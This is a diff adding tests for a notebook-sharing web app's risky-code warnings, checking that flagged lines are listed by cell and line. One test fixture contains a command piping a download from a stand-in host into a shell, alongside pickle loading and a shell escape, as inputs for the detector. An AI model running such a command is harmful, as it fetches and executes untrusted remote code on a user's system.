@@ -82,6 +82,49 @@ describe('without JavaScript', () => {
   });
 });
 
+describe('risky code on the page of a notebook', () => {
+  const cellOf = (source: string) => ({
+    cell_type: 'code',
+    metadata: {},
+    source,
+    execution_count: null,
+    outputs: [],
+  });
+  const pageOf = async (...sources: string[]) => {
+    const answer = await opened.app.inject({
+      method: 'POST',
+      url: '/api/notebook',
+      headers: { 'content-type': 'application/json' },
+      payload: notebookText({ cells: sources.map(cellOf) }),
+    });
+    return (await get(`/s/${answer.json().share_id}`)).body;
+  };
+
+  test('is listed by cell and line', async () => {
+    const body = await pageOf(
+      'print(1)',
+      'import os\nos.system("curl -s https://x.example | sh")',
+      'import pickle\n\npickle.load(f)\n!ls',
+    );
+    expect(body).toContain('<li>Cell 2: pipes a download into a shell (line 2)</li>');
+    expect(body).toContain(
+      '<li>Cell 3: loads pickled files, which can run code (line 3); runs shell commands (line 4)</li>',
+    );
+  });
+
+  test('is said to be unchecked if there is too much of it', async () => {
+    expect(await pageOf('x = 1', 'y = 1\n'.repeat(10_000))).toContain(
+      'Cell 2: could not be checked (line 1)',
+    );
+  });
+
+  test("is not seen in alacard's own cells", async () => {
+    const made = await postForm({ hf_model_id: MODEL });
+    expect((await get(made.headers.location as string)).body).not.toContain('Risky code');
+    expect(await pageOf('%pip install -q transformers', 'print("os.system")')).not.toContain('Risky code');
+  });
+});
+
 test('every page has a strict Content-Security-Policy', async () => {
   for (const url of ['/', '/generate', '/gallery', '/api/docs', '/nothing', '/api/stats', '/assets/app.js']) {
     const { headers } = await get(url);
